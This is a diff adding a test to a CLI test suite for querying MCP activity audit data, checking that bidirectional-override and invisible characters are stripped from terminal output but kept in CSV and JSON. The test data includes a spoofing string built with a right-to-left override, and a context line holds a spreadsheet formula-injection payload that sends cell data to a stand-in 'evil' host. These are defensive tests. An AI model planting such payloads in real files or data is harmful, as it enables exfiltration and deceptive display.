@@ -546,6 +546,23 @@ describe("mcp-activity query", () => {
     }
   });
 
+  it("prints no bidirectional override nor invisible character of the audit data on the terminal; CSV and JSON keep them", async () => {
+    const hostile = "Q3 \u202enalp\u202c\u200b\u2066x\u2069\ufeff";
+    const { db, path } = storeWith([{ time: Date.now() - HOUR, resource: hostile }]);
+    db.close();
+    const table = await runCli(["query", "since:1d"], { DATABASE_PATH: path });
+    expect(table.code, table.stderr).toBe(0);
+    expect(table.stdout).toContain("Q3 nalpx");
+    expect(table.stdout).not.toMatch(/[\u200b\u202a-\u202e\u2066-\u2069\ufeff]/);
+    // A file or a script gets the data as stored.
+    const csv = await runCli(["query", "since:1d format:csv"], { DATABASE_PATH: path });
+    expect(csv.code, csv.stderr).toBe(0);
+    expect(csv.stdout).toContain(`,${hostile},`);
+    const json = await runCli(["query", "since:1d", "--json"], { DATABASE_PATH: path });
+    expect(json.code, json.stderr).toBe(0);
+    expect(json.stdout).toContain(hostile);
+  });
+
   it("writes no live formula to a CSV file, even one hidden behind control characters", async () => {
     const { db, path } = storeWith([
       { time: Date.now() - HOUR, resource: '\u0007=HYPERLINK("http://evil/?"&A1,"x")' },
